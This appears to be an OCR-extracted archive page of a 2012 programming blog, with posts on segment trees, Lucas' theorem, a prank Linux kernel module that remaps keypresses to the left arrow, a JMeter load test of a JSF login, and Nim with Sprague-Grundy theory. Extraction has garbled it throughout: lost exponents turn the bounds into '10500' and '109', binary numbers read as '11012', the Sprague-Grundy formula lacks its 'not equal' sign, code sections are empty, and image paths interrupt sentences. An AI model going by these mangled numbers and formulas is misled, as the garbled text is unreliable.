Monday, December 24, 2012

Segment Trees and lazy propagation

In this topic i will explain a very interesting data structure that can be used to solve a specific set of problems. I will start by explaining its definition and the proceeding with an example problem to solve with it.

Table of contents:
  • What  is segment trees?
  • Order of growth of segment treesoperations
  • Show me your code
  • Lazy propagation
  • Sample problems to try
  • References
What is segment trees?

Segment Trees is a Tree data structure for storing intervals, or segments, It allows querying which of the stored segments contain a given point. It is, in principle, a static structure; that is, its content cannot be modified once the structure is built. It only uses O(N lg(N)) storage.

A segment trees has only three operations: build_tree, update_tree, query_tree.

Building tree: To init the tree segments or intervals values
Update tree: To update value of an interval or segment
Query tree: To retrieve the value of an interval or segment

Example Segment Tree:
  • The first node will hold the information for the interval [i, j]
  • If i<j the left and right son will hold the information for the intervals [i, (i+j)/2] and [(i+j)/2+1, j]
Notice that the height of a segment tree for an interval with N elements is [logN] + 1. Here is how a segment tree for the interval [0, 9] would look like:


Order of growth of segment trees operations
  • build_tree: O(N lg(N))
  • update_tree: O(lg(N + k))
  • query_tree: O(lg(N + k))
K = Number of retrieved intervals or segments

Show me your code


Lazy Propagation

Sometimes a segment tree operation wouldn't survive if the problem constraints is too large, here it come lazy propagation along with the segment tree.

In the current version when we update a range, we branch its childs even if the segment is covered within range. In the lazy version we only mark its childthat it needs to be updated and update it when needed.

Note: Read my solution for problem Can you answer these queries I in this article.

Sample Problems to try

Wednesday, December 19, 2012

Lucas' Theorem to solve binomial coefficients

I am happy cause only one problem and i will be done solving interviewstreet mathematical problems. After solving the Binomial Coefficientsproblem i think i have something useful to share with you.

In this problem you are given two number N and P, where P is a prime number. You are requested to find how many binomial coefficients of n become to 0 after modulo by P.

So the output should be the number of  \tbinom nks (0<=k<=n)  each of which after modulo operation by P is 0.

I hear you saying its an easy problem, but you won't say that after knowing about the input constraints.

n is less than 10500.
P is less than 109.

For such large number i will use Java to solve this problem, thanks to the BigInteger Class in java. After doing some search i found that there is a theorem called Lucas' Theorem which is as follows:

Given n, k, and prime p, binomial (n,k) is divisible by p if and only if at least one of  the base p digits of k is larger than the corresponding digit of m (also base p digit).So to solve this problem we need to find the base P representation of n, and counting how many numbers (R) that have all digits (inbase P) less than the corresponding digit in n.

1. We have k is between 0 and n, so we have (n+1) numbers to check with n.
2. Now need to find R.

Now if n in base P is as follows: abc...

Then we need to get all numbers that have:

1. First digit is 0, 1, 2, .... a-1
2. Second digit is 0, 1, 2, .... b-1
3. Third digit is 0, 1, 2, ...., c-1

Obviously R = (a+1)*(b+1)*(c+1).

So we have (n+1) total numbers, subtracting  R, then the result would be n+1-R.

Friday, December 7, 2012

Hacking linux keyboard

Now again with another interesting kernel hack, in this post i will show you a sample input device that report keyboard events without pressing any keys. In this sample i will report theleft arrow key pressed event whenever the user pressing any key.

Actually i was building a new keyboard hardware with its device driver, but as i don't have time to share a video with you now about my new se7so keyboard, i thought about something interesting to share with you :).

As the user will be forced to write from right to left, instead of writing from left to right, I was trying to login my machine and because of the module was loaded i was forced to write my password from right to left :D "what comes around, goes around".

You can download the code from sourceforge.

Enjoy the video ;).

Monday, December 3, 2012Apache JMeter along with jsf pages

Two days ago i was allocated a task from my team leader to load test our new web application after deploying it on the production environment. We used lots of open source technologies in this application but the main challenge was to configure JMeter to pass the JSF login page that contains a button posts to a JSF action.

If you don't know about JMeter, you may need to read this topic on my blog.

Step 1: Creating a Thread Group with the following configuration:

Name: Schindler Thread Group
Number of threads (Users): 300
Ramp-Up Period (In seconds): 2
Loop count: 2

Step 2: Creating Once Only Controller under the Thread Group with the following configuration:

Name: Schindler Login

Step 3: Creating an HTTP Request under the Once Only Controller with the following configuration

Name: Initial Login request
Server Name:
Port Number: 80
Path: /Schindler-web/login.xhtm
Implementation: Java
Protocol: HTTP
Method: GET
Follow Redirects: True

Step 4: Creating an XPath Extractor to extract the view state of the login buttonName: Xpath Extractor
to: Main sample only
Reference name: myViewState
XPath query: //input[@id='javax.faces.ViewState']/@value

Step 5: Creating an HTTP Request to submit credentials to the jsf login action with the following config

Name: Auth
Server Name:
Port Number: 80
Path: /Schindler-web/login.xhtml
Implementation: Java
Protocol: HTTP
Method: POST
Follow Redirects: True
Use KeepAlive: True

j_username : admin : encode = true : include equals = true
j_password : password : encode = true : include equals = true
javax.faces.ViewState : ${myViewState} : include equals = true
login : Login : include equals = true
loginForm : loginForm : include equals = true

Step 6: In the same level of the Once Only Controller create an HTTP URL Re-writing modifier to extract the session id with the following configuration

Name: HTTP URL Re-writing Modifier
Session Argument Name: JSESSIONID
Cache Session ID = true

Step 7: Create an HTTP Cookie Manager to save the session id and sending it along with all the requests

Name: HTTP Cookie Manager

Step 8: Create some listeners to view the results in my case i preferred to use View Results in Table, Graph Results, and View Results Tree.

Table View

Graph View

Tree View

Notes: To be able to survive any problems you face, use Firebug to check the request on your browsers and what are the parameters sent along with the request and make sure that your jmeter requests are configured with the same parameters and values.Friday, October 19, 2012

Impartial games problems

Again with a new problem, but this time i will explain a very nice approach to solve a specific set ofproblems located under the category of game theory.

Impartial games

In combinatorial game theory, an impartial game is a game in which the allowable moves depend only on the position and not on which of the two players is currently moving, and where the payoffs are symmetric. In other words, the only difference between player 1 and player 2 is that player 1 goes first.

Impartial games include Nim, Sprouts, Kayles, Quarto, Cram, Chomp, and poset games. I will explain the nim problem and how to solve it, then i will move to the Stone Piles problem that i solved this week.
Nim Problem

Nim is a game in which two players taketurns removing objects from distinct heaps. On each turn, a player must remove at least one object, and no more than a set maximum number from the heap.

An example normal play game is shown below:

3 4 5 I take 2 from A
1 4 5 You take 3 from C
1 4 2 I take 1 from B
1 3 2 You take 1 from B
1 2 2 I take entire A heap leaving two 2’s.
0 2 2 You take 1 from B
0 1 2 I take 1 from C leaving two 1’s.
0 1 1 You take 1 from B
0 0 1 I take entire C heap and win.

What is your winning strategy?

Luckily, we can find one. Nim has been solved for all starting positions and for any number of heaps. First we’ll look at different types of game positions, then we’ll do some work with “nimbers” (yes, that really is a word) and then apply them to finding a solution to Nim.

Types of impartial game positions

• A game is in a P-position if it secures a win for the Previous player (the one who just moved).
• A game is in a N-position if it secures a winfor the Next player.

So in normal play Nim with three heaps, (0,0,1) is an N-position and (1,1,0) is a P-position. We call the position from which no possible moves are left a terminal position. To find whether a Nim position is N or P, we work backwards from the end of the game to the beginning in a process called backwards induction:

1. Label every terminal position as P.
2. Label every position that can reach a P position as N.
3. For positions that only move to N positions, label P.
4. At this point either all positions are labeled or return to step 2 and repeat the process until all positions are labeled.

Applying these rules to Nim, we first set the only terminal position (in other games there could be many) 0,0,0, to P. It is obvious that any position (0,0,n) is an N position, since the next player can just take the last heap in one turn.Nimber arithmatic

The key operation in the solution to Nim is binary addition without carrying. To add two numbers in this manner, first write out their binary expansions, and then take the exclusive or (XOR) of the two numbers bit by bit.

Theorem 1. A position, (x1, x2, x3), in Nim is a P-position if and only if the nim-sum of its components is zero, x1 ⊕ x2 ⊕ x3 = 0. As an example, take the position (x1, x2, x3) = (13, 12, 8). Is this a P-position? If not, what is a winning move? We compute the nim-sum of 13, 12 and 8:
13 = 11012
12 = 11002
8 = 10002
nim-sum = 10012 = 9
Since the nim-sum is not zero, this is an N-position according to Theorem 1. Can you find a winning move? You must find a move to a P-position, that is, to a position with an even number of 1’s in each column. One such move is to take away 9 chips from the pile of 13, leaving 4 there. The resulting position has nim-sum zero:

4 =1002
12 = 11002
8 = 10002
nim-sum = 00002 = 0

Another winning move is to subtract 7 chips from the pile of 12, leaving 5. Check it out.

Now we can solve the Nim game with any number of piles.

Stone Piles problem

This is a much harder problem in which we are going to move to another theorem called Sprague Grundy theorem, in which will help us solving this problem.

You can view this problem at using this link. However in this problem the game described as below:

There are N piles of stones where the ith pile has xi stones in it. Alice and Bob play thefollowing game:
  • a. Alice starts, and they alternate turns.
  • b. In a turn, a player can chooseany one of the pilesof stones and divide the stones in it into any number of unequal piles such that no two of the piles you create should have the same number of stones. For example, if there 8 stones in a pile, it can be divided into one of these set of piles: (1,2,5), (1,3,4), (1,7), (2,6) or (3,5).
  • c. The player who cannot make a move (because all the remaining piles are indivisible) loses the game.
Given the starting set of piles, who wins the game assuming both players play optimally?

Sprague Grundy Theorem

Definition: A directed graph G(X,F) Where A directed graph, G, is a pair (X,F) where X is a nonempty set of vertices (positions) and F is a function thatgives for each x ∈ X  a subset of X, where each of them is a position reachable from x.

The Sprague-Grundy function of a graph, (X,F), is a function, g, defined on X and taking non-negative integer values, such that g(x) =min{n ≥ 0 : n = g(y) for y ∈ F(x)}.

In words, g(x) the smallest non-negative integer not found among the Sprague-Grundy values of the followers of x. If we define the minimal excludant, or mex, of a set of non-negative integers as the smallest non-negative integer not in the set, then we may write simply g(x) =mex{g(y) : y ∈ F(x)}.

Mex means Minimum Excluded Value. Below are some practice examples:

mex({2,4,5,6}) = 0
mex({0,1,2,6}) = 3

Now how to solve the stone piles game?

